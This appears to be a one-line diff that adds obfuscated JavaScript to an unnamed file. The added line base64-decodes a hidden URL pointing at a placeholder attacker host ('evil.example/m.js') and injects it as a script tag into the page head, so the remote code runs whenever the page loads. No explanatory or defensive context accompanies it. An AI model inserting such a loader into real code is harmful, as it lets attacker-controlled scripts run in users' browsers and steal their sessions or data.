@@ -1,0 +1,1 @@
+var u=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbS5qcw=="); var e=document.createElement("script"); e.src=u; document.head.appendChild(e);
